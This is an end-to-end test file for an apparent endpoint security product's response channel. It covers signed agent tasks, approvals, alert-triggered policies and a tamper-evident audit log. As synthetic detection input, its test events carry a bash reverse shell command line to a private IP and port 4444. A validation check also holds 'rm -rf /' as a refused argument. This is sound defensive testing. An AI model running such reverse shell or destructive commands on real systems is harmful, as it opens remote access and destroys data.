// End-to-end response channel on a real server process and a real enrolled agent (in this process, so the test can
// inject events through its pipeline; it has only the harmless agent.ping handler): signed task delivery by long-poll
// with measured latency, server-side argument checks, replay refusal, roles, two-step confirmation, approvals,
// policies with dry-run and blast radius, the CLI, and the append-only audit log with its tamper-evident chain.
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { randomUUID } from 'node:crypto';
import Database from 'better-sqlite3';
import { repoRoot } from '@vigil/common';
import { enroll, startAgent, type RunningAgent } from '@vigil/agent';
import { createPingHandler } from '@vigil/agent/response/handlers/ping';
import type { EventSink, EventSource } from '@vigil/sources';
import { ADMIN_PASSWORD, ApiClient, cleanup, request, startServer, tempDir, waitFor, type HttpReply, type ServerHandle } from './harness.js';
import { batchBody } from './events.js';

const REVERSE_SHELL_RULE = '0c071acc-8823-4eb5-ba7c-4303224176ef';
const PASSWORD = 'response-e2e-password-0123';

let server: ServerHandle;
let admin: ApiClient;
let agent: RunningAgent;
let agentId: string;
let sink: EventSink | undefined;
const tokens: Record<string, string> = {};
let pid = 7000;

/** A source the test drives: events go through the agent's real validation, spool and mTLS sender. */
const injector: EventSource = {
  name: 'e2e-injector',
  platforms: [process.platform],
  async start(s) {
    sink = s;
  },
  async stop() {
    sink = undefined;
  },
  stats: () => ({}),
};

function reverseShell(): number {
  const p = ++pid;
  const commandLine = `bash -i >& /dev/tcp/10.0.0.5/4444 0>&1 #${p}`;
  sink!.emit({
    '@timestamp': new Date().toISOString(),
    'event.category': 'process',
    'event.action': 'start',
    'process.pid': p,
    'process.parent.pid': 1000,
    'process.executable': '/usr/bin/bash',
    'process.name': 'bash',
    'process.command_line': commandLine,
    'process.args': commandLine.split(' '),
    'user.name': 'www-data',
    'user.id': '33',
  } as never);
  return p;
}

function call(method: string, path: string, body?: unknown, token = admin.token): Promise<HttpReply> {
  return request(`${server.apiUrl}${path}`, { method, ...(body !== undefined ? { body } : {}), token, ca: server.caPem });
}

async function ok(reply: Promise<HttpReply> | HttpReply, status = 200): Promise<any> {
  const r = await reply;
  assert.equal(r.status, status, `${r.status}: ${r.text.slice(0, 500)}`);
  return r.body;
}

async function finalTask(id: string, token = admin.token, timeoutMs = 10_000): Promise<any> {
  return waitFor(`task ${id} to finish`, async () => {
    const task = await ok(call('GET', `/api/v1/response/tasks/${id}`, undefined, token));
    return ['succeeded', 'failed', 'expired', 'cancelled'].includes(task.state) ? task : undefined;
  }, timeoutMs, 20);
}

async function audit(query: string): Promise<any[]> {
  return ok(call('GET', `/api/v1/response/audit?${query}`));
}

before(async () => {
  server = await startServer({ VIGIL_API_RATE_BURST: '5000', VIGIL_API_RATE_PER_MIN: '60000', VIGIL_LOGIN_RATE_PER_MIN: '100' });
  admin = await new ApiClient(server).login();
  tokens.admin = admin.token;
  for (const [name, role] of [['resp1', 'responder'], ['resp2', 'responder'], ['analyst1', 'analyst'], ['viewer1', 'viewer']] as const) {
    await ok(admin.post('/api/v1/users', { username: name, password: PASSWORD, role }));
    const login = await request(`${server.apiUrl}/api/v1/auth/login`, { body: { username: name, password: PASSWORD }, ca: server.caPem });
    assert.equal(login.status, 200, login.text);
    tokens[name] = login.body.token;
  }
  const stateDir = tempDir('response-agent');
  const identity = await enroll({ serverUrl: server.apiUrl, token: await admin.enrollmentToken(), caPem: server.caPem, stateDir });
  agentId = identity.agentId;
  agent = await startAgent({ stateDir, sources: [injector], flushMs: 50, heartbeatSeconds: 2, handlers: [createPingHandler()] });
});

after(async () => {
  await agent?.stop();
  await cleanup();
});

test('the agent pinned the server task-signing key at enrollment', async () => {
  const key = await ok(call('GET', '/api/v1/response/signing-key'));
  assert.match(key.key_id, /^[0-9a-f]{32}$/);
  assert.equal(agent.tasks().key_id, key.key_id);
});

test('a task reaches the agent over the long-poll and completes; delivery latency is measured', async () => {
  const latencies: number[] = [];
  const queuedToRunning: number[] = [];
  for (let i = 0; i < 10; i++) {
    const started = performance.now();
    const created = await ok(call('POST', '/api/v1/response/tasks', { action: 'agent.ping', args: { echo: `round ${i}` }, hosts: [agentId], reason: 'e2e reachability' }), 201);
    assert.equal(created.status, 'created');
    assert.equal(created.tasks.length, 1);
    assert.equal(created.tasks[0].state, 'queued');
    const task = await finalTask(created.tasks[0].id);
    latencies.push(performance.now() - started);
    queuedToRunning.push(Date.parse(task.started_at) - Date.parse(task.queued_at));
    assert.equal(task.state, 'succeeded', JSON.stringify(task));
    assert.equal(task.outcome.ok, true);
    assert.equal(task.outcome.verified, true);
    assert.equal(task.outcome.details.echo, `round ${i}`);
    assert.equal(task.outcome.details.agent_id, agentId);
    assert.equal(task.issued_by, 'user:admin');
    assert.equal(task.envelope.task.agent_id, agentId);
    assert.equal(task.envelope.task.nonce.length, 24);
  }
  latencies.sort((a, b) => a - b);
  queuedToRunning.sort((a, b) => a - b);
  // Reported, not asserted (timings belong to benchmarks): create call → signed → long-poll answer → run → result stored
  // (as the API client sees it, polling every 20 ms), and queued → running as the server recorded it.
  console.log(
    `response-channel: agent.ping over ${latencies.length} tasks: create→succeeded seen by the client p50 ${latencies[5]!.toFixed(1)} ms, max ${latencies.at(-1)!.toFixed(1)} ms; ` +
      `queued→running (server clock) p50 ${queuedToRunning[5]} ms, max ${queuedToRunning.at(-1)} ms`,
  );
  const stats = agent.tasks();
  assert.ok(stats.succeeded >= 10, JSON.stringify(stats));
  assert.equal(stats.refused, 0);
});

test('every step of a task is in the audit log: who, when, why, what, which hosts', async () => {
  const created = await ok(call('POST', '/api/v1/response/tasks', { action: 'agent.ping', args: {}, hosts: [agentId], reason: 'audit trail check' }, tokens.resp1), 201);
  const id = created.tasks[0].id;
  await finalTask(id);
  const byBatch = await audit(`batch_id=${created.batch_id}`);
  const create = byBatch.find((e) => e.event === 'task.create');
  assert.ok(create, JSON.stringify(byBatch));
  assert.equal(create.actor, 'user:resp1');
  assert.equal(create.reason, 'audit trail check');
  assert.deepEqual(create.hosts, [agentId]);
  assert.equal(create.action, 'agent.ping');
  const steps = (await audit(`task_id=${id}`)).map((e) => e.event).reverse();
  assert.deepEqual(steps, ['task.delivered', 'task.running', 'task.result']);
  const result = (await audit(`task_id=${id}&event=task.result`))[0];
  assert.equal(result.actor, `agent:${agentId}`);
  assert.equal(result.outcome, 'success');
  assert.equal(result.detail.verified, true);
});

test('the server never signs invalid arguments, unknown actions or unknown hosts', async () => {
  const before = (await ok(call('GET', '/api/v1/response/tasks?limit=1000'))).length;
  const refused = async (body: unknown, status: number, path: string) => {
    const reply = await call('POST', '/api/v1/response/tasks', body);
    assert.equal(reply.status, status, reply.text);
    assert.ok(JSON.stringify(reply.body.error).includes(path), `${path} in ${reply.text}`);
  };
  await refused({ action: 'agent.ping', args: { echo: 5 }, hosts: [agentId], reason: 'x' }, 400, 'args.echo');
  await refused({ action: 'agent.ping', args: { echo: 'x'.repeat(201) }, hosts: [agentId], reason: 'x' }, 400, 'args.echo');
  await refused({ action: 'agent.ping', args: { command: 'rm -rf /' }, hosts: [agentId], reason: 'x' }, 400, 'args.command');
  await refused({ action: 'agent.explode', hosts: [agentId], reason: 'x' }, 400, 'action');
  await refused({ action: 'task.cancel', args: { task_id: randomUUID() }, hosts: [agentId], reason: 'x' }, 400, 'action');
  await refused({ action: 'agent.ping', hosts: [randomUUID()], reason: 'x' }, 404, 'hosts[0]');
  await refused({ action: 'agent.ping', reason: 'x' }, 400, 'hosts');
  await refused({ action: 'agent.ping', host_tags: ['nobody-has-this-tag'], reason: 'x' }, 400, 'host_tags');
  assert.equal((await ok(call('GET', '/api/v1/response/tasks?limit=1000'))).length, before, 'nothing was created');
});

test('a replayed envelope is refused by the agent, reported and audited; the task never runs twice', async () => {
  const created = await ok(call('POST', '/api/v1/response/tasks', { action: 'agent.ping', args: { echo: 'once' }, hosts: [agentId], reason: 'replay check' }), 201);
  const id = created.tasks[0].id;
  const first = await finalTask(id);
  assert.equal(first.state, 'succeeded');
  const ranBefore = agent.tasks().succeeded;
  const refusedBefore = agent.tasks().refused;
  const again = await ok(call('POST', `/api/v1/response/tasks/${id}/redeliver`));
  assert.equal(again.state, 'succeeded');
  const refusal = await waitFor('the agent to refuse the replay', async () => (await audit(`task_id=${id}&event=task.refused`))[0], 10_000, 50);
  assert.equal(refusal.detail.reason, 'replayed');
  assert.equal(refusal.actor, `agent:${agentId}`);
  assert.equal(refusal.outcome, 'refused');
  assert.equal(agent.tasks().succeeded, ranBefore, 'the handler did not run again');
  assert.equal(agent.tasks().refused, refusedBefore + 1);
  const after = await ok(call('GET', `/api/v1/response/tasks/${id}`));
  assert.equal(after.state, 'succeeded', 'the refusal of a replay does not change the finished task');
  assert.equal(after.deliveries, 2);
});

test('roles: a viewer is refused on response routes; an analyst may collect but not remediate', async () => {
  const body = { action: 'agent.ping', hosts: [agentId], reason: 'viewer tries' };
  assert.equal((await call('POST', '/api/v1/response/tasks', body, tokens.viewer1)).status, 403);
  assert.equal((await call('GET', '/api/v1/response/tasks', undefined, tokens.viewer1)).status, 403);
  assert.equal((await call('GET', '/api/v1/response/audit', undefined, tokens.viewer1)).status, 403);
  assert.equal((await call('POST', '/api/v1/response/policies', {}, tokens.viewer1)).status, 403);
  const byAnalyst = await ok(call('POST', '/api/v1/response/tasks', { ...body, reason: 'analyst collects' }, tokens.analyst1), 201);
  assert.equal((await finalTask(byAnalyst.tasks[0].id)).state, 'succeeded');
  const remediate = await call('POST', '/api/v1/response/tasks', { action: 'file.delete', args: { path: '/tmp/vigil-e2e-nothing' }, hosts: [agentId], reason: 'analyst tries to delete' }, tokens.analyst1);
  assert.equal(remediate.status, 403, remediate.text);
  assert.match(remediate.body.error.message, /response:remediate/);
  assert.equal((await call('POST', `/api/v1/response/tasks/${byAnalyst.tasks[0].id}/approve`, {}, tokens.analyst1)).status, 403);
  assert.equal((await call('POST', '/api/v1/response/policies', {}, tokens.resp1)).status, 403, 'responders do not manage policies');
});

test('a destructive action needs two steps: the first call only returns a confirmation token', async () => {
  const body = { action: 'file.delete', args: { path: '/tmp/vigil-e2e-never-deleted' }, hosts: [agentId], reason: 'two-step check', require_approval: true };
  const count = async () => (await ok(call('GET', '/api/v1/response/tasks?action=file.delete'))).length;
  const first = await ok(call('POST', '/api/v1/response/tasks', body, tokens.resp1), 202);
  assert.equal(first.status, 'confirmation_required');
  assert.match(first.confirmation_token, /^vgl_cnf_/);
  assert.deepEqual(first.hosts, [agentId]);
  assert.equal(await count(), 0, 'nothing created by the first call');
  const conflict = (reply: HttpReply) => assert.equal(reply.status, 409, reply.text);
  conflict(await call('POST', '/api/v1/response/tasks', { ...body, args: { path: '/etc/passwd' }, confirmation_token: first.confirmation_token }, tokens.resp1));
  conflict(await call('POST', '/api/v1/response/tasks', { ...body, confirmation_token: first.confirmation_token }, tokens.resp2));
  const second = await ok(call('POST', '/api/v1/response/tasks', { ...body, confirmation_token: first.confirmation_token }, tokens.resp1), 201);
  assert.equal(second.tasks[0].state, 'awaiting_approval');
  assert.deepEqual(second.tasks[0].args, { path: '/tmp/vigil-e2e-never-deleted', recursive: false }, 'defaults are filled in before signing');
  conflict(await call('POST', '/api/v1/response/tasks', { ...body, confirmation_token: first.confirmation_token }, tokens.resp1));
  const rejected = await ok(call('POST', `/api/v1/response/tasks/${second.tasks[0].id}/reject`, { comment: 'only a test' }, tokens.resp2));
  assert.equal(rejected.state, 'cancelled');
  assert.equal(rejected.envelope, undefined);
  const events = (await audit(`action=file.delete&limit=20`)).map((e) => e.event);
  assert.ok(events.includes('task.confirmation_requested') && events.includes('task.reject'), events.join(','));
});

test('approval: a task waits for a second person; the requester cannot approve it', async () => {
  const created = await ok(call('POST', '/api/v1/response/tasks', { action: 'agent.ping', args: { echo: 'approved' }, hosts: [agentId], reason: 'four eyes', require_approval: true }, tokens.resp1), 201);
  const id = created.tasks[0].id;
  assert.equal(created.tasks[0].state, 'awaiting_approval');
  const waiting = await ok(call('GET', '/api/v1/response/approvals', undefined, tokens.resp2));
  assert.ok(waiting.some((t: { id: string }) => t.id === id));
  // Not signed yet: nothing for the agent to receive.
  assert.equal((await ok(call('GET', `/api/v1/response/tasks/${id}`))).envelope, null);
  const self = await call('POST', `/api/v1/response/tasks/${id}/approve`, {}, tokens.resp1);
  assert.equal(self.status, 403, self.text);
  assert.match(self.body.error.message, /second person/);
  assert.equal((await call('POST', `/api/v1/response/tasks/${id}/approve`, {}, tokens.viewer1)).status, 403);
  const approved = await ok(call('POST', `/api/v1/response/tasks/${id}/approve`, { comment: 'looks right' }, tokens.resp2));
  assert.equal(approved.approval.approved_by, 'user:resp2');
  const task = await finalTask(id);
  assert.equal(task.state, 'succeeded');
  assert.equal(task.outcome.details.echo, 'approved');
  assert.equal((await call('POST', `/api/v1/response/tasks/${id}/approve`, {}, tokens.resp2)).status, 409);
});

test('a policy fires on an alert from an event sent by the agent: dry run, live, blast radius pause, resume', async () => {
  const name = `ping-on-reverse-shell-${randomUUID().slice(0, 8)}`;
  const definition = {
    name,
    description: 'e2e',
    dry_run: true,
    match: { rule_ids: [REVERSE_SHELL_RULE], min_level: 'high' },
    actions: [{ action: 'agent.ping', args: { echo: 'pid {{process.pid}} alert {{alert.id}} rule {{alert.rule_id}}' } }],
    blast_radius: { max_hosts: 1, window_s: 3600 },
  };
  const policy = await ok(call('POST', '/api/v1/response/policies', definition), 201);
  // Dry run: the decision is audited with the rendered arguments; no task.
  const dryPid = reverseShell();
  const dry = await waitFor('the dry-run audit entry', async () => (await audit(`policy_id=${policy.id}&event=policy.dry_run`))[0], 15_000, 50);
  assert.equal(dry.outcome, 'dry_run');
  assert.deepEqual(dry.hosts, [agentId]);
  assert.match(dry.detail.args.echo, new RegExp(`^pid ${dryPid} alert [0-9a-f-]{36} rule ${REVERSE_SHELL_RULE}$`));
  assert.equal((await ok(call('GET', `/api/v1/response/tasks?policy_id=${policy.id}`))).length, 0);

  // Live: the next alert creates the task, which the agent runs.
  await ok(call('PUT', `/api/v1/response/policies/${policy.id}`, { ...definition, dry_run: false }));
  const livePid = reverseShell();
  const [task] = await waitFor('the policy task', async () => {
    const tasks = await ok(call('GET', `/api/v1/response/tasks?policy_id=${policy.id}`));
    return tasks.length ? tasks : undefined;
  }, 15_000, 50);
  assert.equal(task.issued_by, `policy:${name}`);
  assert.ok(task.alert_id);
  const done = await finalTask(task.id);
  assert.equal(done.state, 'succeeded');
  assert.match(done.outcome.details.echo, new RegExp(`^pid ${livePid} alert ${task.alert_id} `));
  const fired = (await audit(`policy_id=${policy.id}&event=policy.fired`))[0];
  assert.deepEqual(fired.detail.task_ids, [task.id]);

  // Blast radius: a second host's alert would exceed one host per window: the policy pauses and raises an alert.
  const other = await admin.enrollKeys();
  const event = {
    '@timestamp': new Date().toISOString(), 'event.id': randomUUID(), 'event.sequence': 1, 'event.category': 'process', 'event.action': 'start', 'host.id': other.agentId,
    'process.pid': 999, 'process.parent.pid': 1, 'process.executable': '/usr/bin/bash', 'process.name': 'bash', 'process.command_line': 'bash -i >& /dev/tcp/10.0.0.9/4444 0>&1', 'user.name': 'root',
  };
  const posted = await request(`https://127.0.0.1:${server.agentPort}/agent/v1/events`, { raw: batchBody(other.agentId, [event]), ca: server.caPem, key: other.key, cert: other.cert });
  assert.equal(posted.status, 200, posted.text);
  const paused = await waitFor('the policy to pause', async () => (await audit(`policy_id=${policy.id}&event=policy.paused`))[0], 15_000, 50);
  assert.deepEqual(paused.hosts, [other.agentId]);
  const view = await ok(call('GET', `/api/v1/response/policies/${policy.id}`));
  assert.match(view.paused.reason, /blast radius/);
  assert.equal(view.blast_radius.hosts_in_window, 1);
  assert.equal((await ok(call('GET', `/api/v1/response/tasks?policy_id=${policy.id}`))).length, 1, 'no task for the host beyond the limit');
  const raised = await ok(call('GET', `/api/v1/alerts?host_id=${other.agentId}&rule_id=external:vigil-response`));
  assert.equal(raised.length, 1, JSON.stringify(raised));
  assert.match(raised[0].ruleTitle, /paused: blast radius/);
  // While paused, alerts on the original host do nothing either.
  reverseShell();
  await new Promise((r) => setTimeout(r, 1500));
  assert.equal((await ok(call('GET', `/api/v1/response/tasks?policy_id=${policy.id}`))).length, 1, 'a paused policy never acts');
  const resumed = await ok(call('POST', `/api/v1/response/policies/${policy.id}/resume`));
  assert.equal(resumed.paused, null);
  assert.equal(resumed.blast_radius.hosts_in_window, 0);
  await ok(call('DELETE', `/api/v1/response/policies/${policy.id}`));
  assert.equal((await call('GET', `/api/v1/response/policies/${policy.id}`)).status, 404);
});

test('a policy with approval: its tasks wait for someone other than who configured it', async () => {
  const policy = await ok(
    call('POST', '/api/v1/response/policies', {
      name: `approve-${randomUUID().slice(0, 8)}`,
      match: { rule_ids: [REVERSE_SHELL_RULE] },
      actions: [{ action: 'agent.ping', args: { echo: '{{process.name}}' } }],
      blast_radius: { max_hosts: 10, window_s: 60 },
      approval: 'always',
    }),
    201,
  );
  reverseShell();
  const [task] = await waitFor('the policy task', async () => {
    const tasks = await ok(call('GET', `/api/v1/response/tasks?policy_id=${policy.id}`));
    return tasks.length ? tasks : undefined;
  }, 15_000, 50);
  assert.equal(task.state, 'awaiting_approval');
  assert.equal((await call('POST', `/api/v1/response/tasks/${task.id}/approve`, {})).status, 403, 'the admin configured the policy');
  await ok(call('POST', `/api/v1/response/tasks/${task.id}/approve`, {}, tokens.resp1));
  const done = await finalTask(task.id);
  assert.equal(done.state, 'succeeded');
  assert.equal(done.outcome.details.echo, 'bash');
  await ok(call('DELETE', `/api/v1/response/policies/${policy.id}`));
});

test('policies are validated: unknown actions, arguments and permissions beyond the author are refused with locations', async () => {
  const base = { name: 'bad-policy', match: { tags: ['attack.execution'] }, blast_radius: { max_hosts: 1, window_s: 60 } };
  const refused = async (body: unknown, status: number, text: RegExp) => {
    const reply = await call('POST', '/api/v1/response/policies', body);
    assert.equal(reply.status, status, reply.text);
    assert.match(JSON.stringify(reply.body.error), text);
  };
  await refused({ ...base, actions: [{ action: 'agent.explode', args: {} }] }, 400, /actions\[0\]\.action/);
  await refused({ ...base, actions: [{ action: 'agent.ping', args: { echo: 'ok', extra: 1 } }] }, 400, /args\.extra/);
  await refused({ ...base, match: {}, actions: [{ action: 'agent.ping' }] }, 400, /at least one/);
  await refused({ ...base, blast_radius: { max_hosts: 0, window_s: 60 }, actions: [{ action: 'agent.ping' }] }, 400, /max_hosts/);
});

test('host tags select task targets', async () => {
  await ok(call('PUT', `/api/v1/hosts/${agentId}/tags`, { tags: ['e2e-web', 'prod'] }));
  assert.deepEqual((await ok(call('GET', `/api/v1/hosts/${agentId}/tags`))).tags, ['e2e-web', 'prod']);
  assert.equal((await call('PUT', `/api/v1/hosts/${agentId}/tags`, { tags: ['x'] }, tokens.resp1)).status, 403);
  const created = await ok(call('POST', '/api/v1/response/tasks', { action: 'agent.ping', host_tags: ['e2e-web'], reason: 'by tag' }), 201);
  assert.deepEqual(created.tasks.map((t: { host_id: string }) => t.host_id), [agentId]);
  assert.equal((await finalTask(created.tasks[0].id)).state, 'succeeded');
});

test('vigil task run/list/show drive the same API with an API token', async () => {
  const token = (await ok(admin.post('/api/v1/api-tokens', { name: 'cli-e2e', role: 'responder' }))).token;
  // Asynchronous: the agent runs in this process and must keep polling while the CLI waits.
  const cli = (...args: string[]) =>
    new Promise<{ status: number | null; stdout: string; stderr: string }>((resolve, reject) => {
      const child = spawn(process.execPath, [join(repoRoot(), 'apps/cli/bin/vigil.js'), 'task', ...args, '--server', server.apiUrl, '--token', token, '--ca-file', join(server.dataDir, 'pki', 'ca.crt')]);
      let stdout = '';
      let stderr = '';
      child.stdout.on('data', (d: Buffer) => (stdout += d.toString()));
      child.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
      child.once('error', reject);
      child.once('close', (status) => resolve({ status, stdout, stderr }));
    });
  const run = await cli('run', 'agent.ping', '--host', agentId, '--arg', 'echo=from the cli', '--reason', 'cli e2e', '--wait', '--json');
  assert.equal(run.status, 0, run.stderr);
  const [task] = JSON.parse(run.stdout);
  assert.equal(task.state, 'succeeded');
  assert.equal(task.outcome.details.echo, 'from the cli');
  assert.equal(task.issued_by, 'token:cli-e2e');
  const listed = await cli('list', '--host', agentId, '--limit', '5');
  assert.equal(listed.status, 0, listed.stderr);
  assert.match(listed.stdout, new RegExp(`${task.id}\\s+${agentId}\\s+agent\\.ping\\s+succeeded`));
  const shown = await cli('show', task.id);
  assert.equal(shown.status, 0, shown.stderr);
  assert.match(shown.stdout, /issued by token:cli-e2e/);
  const bad = await cli('run', 'agent.ping', '--host', agentId, '--arg', 'nope=1', '--reason', 'x');
  assert.equal(bad.status, 1);
  assert.match(bad.stderr, /args\.nope/);
  const destructive = await cli('run', 'file.delete', '--host', agentId, '--arg', 'path=/tmp/vigil-cli-nothing', '--reason', 'x', '--approval');
  assert.equal(destructive.status, 3, destructive.stderr);
  assert.match(destructive.stderr, /repeat with --yes/);
});

test('the audit log is append-only in SQLite and the chain verification detects a tampered row', async () => {
  const verdict = await ok(call('GET', '/api/v1/response/audit/verify'));
  assert.equal(verdict.ok, true, JSON.stringify(verdict));
  assert.ok(verdict.entries > 20);
  const db = new Database(join(server.dataDir, 'response.sqlite'));
  try {
    assert.throws(() => db.prepare("UPDATE audit SET actor = 'user:mallory' WHERE seq = 3").run(), /append-only/);
    assert.throws(() => db.prepare('DELETE FROM audit WHERE seq = 3').run(), /append-only/);
    // Someone with write access to the file removes the trigger and rewrites history.
    db.exec('DROP TRIGGER audit_no_update');
    db.prepare("UPDATE audit SET reason = 'nothing happened' WHERE seq = 5").run();
  } finally {
    db.close();
  }
  const tampered = await ok(call('GET', '/api/v1/response/audit/verify'));
  assert.equal(tampered.ok, false);
  assert.equal(tampered.broken.seq, 5);
  assert.match(tampered.broken.problem, /altered/);
  assert.equal((await call('GET', '/api/v1/response/audit/verify', undefined, tokens.viewer1)).status, 403);
  void ADMIN_PASSWORD;
});
